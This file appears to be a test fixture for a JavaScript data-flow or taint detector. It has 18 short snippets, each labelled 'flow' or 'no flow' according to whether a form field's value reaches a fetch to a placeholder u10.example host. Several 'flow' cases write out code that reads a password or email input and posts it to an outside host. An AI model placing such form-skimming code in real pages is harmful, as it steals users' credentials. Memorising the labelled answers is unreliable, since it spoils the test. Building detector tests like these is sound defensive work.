//# replaced-before-send
// no flow
let body1 = document.querySelector('input[type=password]').value;
console.assert(body1.length);
body1 = 'ping';
fetch('https://rbs.u10.example/', { method: 'POST', body: body1 });

//# deleted-in-clone
// no flow
const form2 = { pw: document.querySelector('input[type=password]').value, step: 2 };
const safe2 = { ...form2 };
delete safe2.pw;
fetch('https://dic.u10.example/', { method: 'POST', body: JSON.stringify(safe2) });

//# deleted-in-clone-original-sent
// flow: password > dco.u10.example via fetch
// why: the copy is cleaned, the original goes out
const form3 = { pw: document.querySelector('input[type=password]').value, step: 3 };
const safe3 = Object.assign({}, form3);
delete safe3.pw;
console.log(safe3);
fetch('https://dco.u10.example/', { method: 'POST', body: JSON.stringify(form3) });

//# undefined-by-spread
// no flow
const form4 = { mail: document.querySelector('input[type=email]').value, page: 'a' };
fetch('https://ubs.u10.example/', { method: 'POST', body: JSON.stringify({ ...form4, mail: undefined }) });

//# spread-order-the-other-way
// flow: email > sow.u10.example via fetch
const form5 = { mail: document.querySelector('input[type=email]').value };
fetch('https://sow.u10.example/', { method: 'POST', body: JSON.stringify({ mail: '', ...form5 }) });

//# array-emptied
// no flow
const keys6 = [];
keys6.push(document.querySelector('input[type=search]').value);
keys6.length = 0;
keys6.push('cleared');
fetch('https://ael.u10.example/', { method: 'POST', body: keys6.join() });

//# map-set-again
// no flow
const m7 = new Map();
m7.set('v', document.querySelector('input[type=tel]').value);
m7.set('v', 'none');
fetch('https://msa.u10.example/', { method: 'POST', body: m7.get('v') });

//# map-other-key
// flow: phone > mok.u10.example via fetch
const m8 = new Map([['a', 'x']]);
m8.set('tel', document.querySelector('input[type=tel]').value);
m8.delete('a');
fetch('https://mok.u10.example/', { method: 'POST', body: m8.get('tel') });

//# params-deleted
// no flow
const p9 = new URLSearchParams({ q: document.querySelector('input[type=search]').value, page: '1' });
p9.delete('q');
fetch('https://pde.u10.example/?' + p9);

//# form-data-set-over
// no flow
const fd10 = new FormData();
fd10.append('mail', document.querySelector('input[type=email]').value);
fd10.set('mail', 'redacted');
fetch('https://fds.u10.example/', { method: 'POST', body: fd10 });

//# field-cleared-then-read
// no flow
// why: an empty text is read
const f11 = document.querySelector('input[type=search]');
f11.value = '';
fetch('https://fcr.u10.example/?q=' + f11.value);

//# swapped-by-destructuring
// no flow
let a12 = document.querySelector('input[type=password]').value, b12 = 'public';
[a12, b12] = [b12, a12];
fetch('https://sbd.u10.example/?v=' + a12);

//# swapped-and-other-sent
// flow: password > sos.u10.example via fetch
let a13 = document.querySelector('input[type=password]').value, b13 = 'public';
[a13, b13] = [b13, a13];
fetch('https://sos.u10.example/?v=' + b13);

//# state-reset-in-same-handler
// no flow
const st14 = { text: '' };
document.querySelector('textarea[name=message]').onchange = (e) => {
  st14.text = e.target.value;
  document.querySelector('#len').textContent = st14.text.length;
  st14.text = '';
  fetch('https://srh.u10.example/', { method: 'POST', body: st14.text });
};

//# kept-after-copy
// flow: message > kac.u10.example via fetch
// why: the copy was taken before the reset
const st15 = { text: '' };
document.querySelector('textarea[name=message]').onchange = (e) => {
  st15.text = e.target.value;
  const draft = st15.text;
  st15.text = '';
  fetch('https://kac.u10.example/', { method: 'POST', body: draft });
};

//# splice-removed-part
// flow: email > srp.u10.example via fetch
// why: splice returns what it removes
const l16 = ['a', document.querySelector('input[type=email]').value];
const [gone] = l16.splice(1, 1);
fetch('https://srp.u10.example/?g=' + gone);

//# pick-listed-keys
// no flow
const ALLOW17 = ['page', 'lang'];
const all17 = { page: 'x', lang: 'en', mail: document.querySelector('input[type=email]').value };
const out17 = {};
for (const k of ALLOW17) out17[k] = all17[k];
fetch('https://plk.u10.example/', { method: 'POST', body: JSON.stringify(out17) });

//# json-replacer-list
// no flow
// why: only the listed keys are written
const o18 = { page: 'x', pw: document.querySelector('input[type=password]').value };
fetch('https://jrl.u10.example/', { method: 'POST', body: JSON.stringify(o18, ['page']) });
